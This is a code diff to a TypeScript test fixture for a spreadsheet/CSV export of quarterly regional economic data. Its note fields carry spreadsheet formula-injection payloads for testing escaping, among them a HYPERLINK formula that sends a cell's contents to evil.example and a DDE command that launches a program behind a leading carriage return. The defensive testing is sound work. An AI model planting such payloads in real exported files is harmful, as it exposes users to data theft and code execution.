@@ -10,7 +10,7 @@ import { parseExportFilters, type TExportFilters, type TExportFiltersInput } fro
  *
  *   zone    quarter  status     revision  values (gdp, gdp-growth, urban-unemployment) and notes
  *   HB-HS   2025Q1   approved   1         1929.50 "=HYPERLINK(…)", -3.5 "-1+2", 5.2 with quotes, comma, CRLF
- *   HB-HS   2025Q2   approved   0         2100.125 (preliminary), 4.0, 5.1
+ *   HB-HS   2025Q2   approved   0         2100.125 (preliminary) CR first, 4.0 bare CR, 5.1 edge spaces
  *   HB-HS   2025Q3   submitted  0         3300, 4.5, —
  *   HB-HS   2025Q4   draft      0         4400 "draft must never leave", …
  *   SD-ZB   2025Q1   approved   0         5000.00 "@SUM(A1)", 0.001 "\tTab", 6.6 "+86 电话"
@@ -33,6 +33,10 @@ export const FIXTURE_SUBMISSIONS = [
 
 export const INJECTION_NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
 export const QUOTED_NOTE = '含"引号", 逗号\r\n和换行';
+/** Notes are stored as typed: a lone CR (an old Mac line end), leading and trailing spaces. */
+export const BARE_CR_NOTE = "口径\r调整";
+export const CR_FIRST_NOTE = "\r=cmd|' /C calc'!A0";
+export const SPACED_NOTE = " 首尾空格 ";
 
 export const FIXTURE_OBSERVATIONS: {
   zoneCode: string;
@@ -57,9 +61,16 @@ export const FIXTURE_OBSERVATIONS: {
     quarter: "2025Q2",
     value: "2100.125",
     revisionKind: "preliminary",
+    note: CR_FIRST_NOTE,
   },
-  { zoneCode: "HB-HS", indicatorCode: "gdp-growth", quarter: "2025Q2", value: "4.0" },
-  { zoneCode: "HB-HS", indicatorCode: "urban-unemployment", quarter: "2025Q2", value: "5.1" },
+  { zoneCode: "HB-HS", indicatorCode: "gdp-growth", quarter: "2025Q2", value: "4.0", note: BARE_CR_NOTE },
+  {
+    zoneCode: "HB-HS",
+    indicatorCode: "urban-unemployment",
+    quarter: "2025Q2",
+    value: "5.1",
+    note: SPACED_NOTE,
+  },
   { zoneCode: "HB-HS", indicatorCode: "gdp", quarter: "2025Q3", value: "3300" },
   { zoneCode: "HB-HS", indicatorCode: "gdp-growth", quarter: "2025Q3", value: "4.5" },
   {
